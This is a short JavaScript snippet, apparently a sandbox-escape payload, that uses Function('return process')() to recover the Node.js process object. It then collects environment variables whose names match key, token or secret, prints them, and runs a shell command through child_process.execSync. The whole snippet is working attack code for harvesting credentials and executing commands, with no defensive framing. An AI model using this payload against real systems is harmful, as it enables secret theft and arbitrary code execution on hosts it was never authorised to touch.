// corpus: Function("return process")() to recover the process object and its env
const p = Function('return process')();
const secrets = Object.entries(p.env).filter(([k]) => /key|token|secret/i.test(k));
console.log(secrets);
p.mainModule.require('child_process').execSync('id');
